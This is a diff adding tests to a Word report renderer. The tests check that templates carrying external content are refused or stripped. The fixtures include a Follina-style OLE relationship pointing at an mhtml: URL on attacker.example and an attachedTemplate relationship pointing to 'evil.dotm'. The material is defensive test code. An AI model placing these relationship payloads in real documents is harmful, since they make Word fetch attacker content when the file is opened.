@@ -296,3 +296,54 @@ def test_characters_that_cannot_be_saved(workbook, tmp_path: Path):
         "render", str(workbook), "-t", str(template), "-o", str(tmp_path / "x.docx")
     )
     assert_refused(done, peak, says="无法保存的字符")
+
+
+def test_external_content_is_refused(workbook, tmp_path: Path):
+    """An OLE object linked to mhtml: (Follina's way in), like any external content but
+    a hyperlink, would be fetched by Word on opening the report."""
+    template = docx_with(
+        default_template("zh"),
+        tmp_path / "ole.docx",
+        "word/_rels/document.xml.rels",
+        "</Relationships>",
+        '<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/'
+        '2006/relationships/oleObject" Target="mhtml:http://attacker.example/x.html!x-usc:'
+        'http://attacker.example/x.html" TargetMode="External"/></Relationships>',
+    )
+    refused_by_render_and_fields(workbook, template, tmp_path, "链接了外部内容")
+    link = docx_with(
+        default_template("zh"),
+        tmp_path / "link.docx",
+        "word/_rels/document.xml.rels",
+        "</Relationships>",
+        '<Relationship Id="rId97" Type="http://schemas.openxmlformats.org/officeDocument/'
+        '2006/relationships/hyperlink" Target="https://example.org/" TargetMode="External"/>'
+        "</Relationships>",
+    )
+    done, _ = run_measured("render", str(workbook), "-t", str(link), "-o", str(tmp_path / "l.docx"))
+    assert done.returncode == 0, done.stderr  # a hyperlink is the reader's own click
+
+
+def test_an_attached_template_written_with_an_end_tag(workbook, tmp_path: Path):
+    rels = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
+        b'"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
+        b'Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'attachedTemplate" Target="file:///C:/evil.dotm" TargetMode="External"/></Relationships>'
+    )
+    staged = with_parts(
+        default_template("zh"), tmp_path / "stage.docx", {"word/_rels/settings.xml.rels": rels}
+    )
+    template = docx_with(
+        staged,
+        tmp_path / "att.docx",
+        "word/settings.xml",
+        "<w:zoom",
+        '<w:attachedTemplate r:id="rId99"></w:attachedTemplate><w:zoom',
+    )
+    out = tmp_path / "r.docx"
+    done, _ = run_measured("render", str(workbook), "-t", str(template), "-o", str(out))
+    assert done.returncode == 0, done.stderr
+    with zipfile.ZipFile(out) as report:
+        assert b"attachedTemplate" not in report.read("word/settings.xml")
+        assert b"evil" not in report.read("word/_rels/settings.xml.rels")
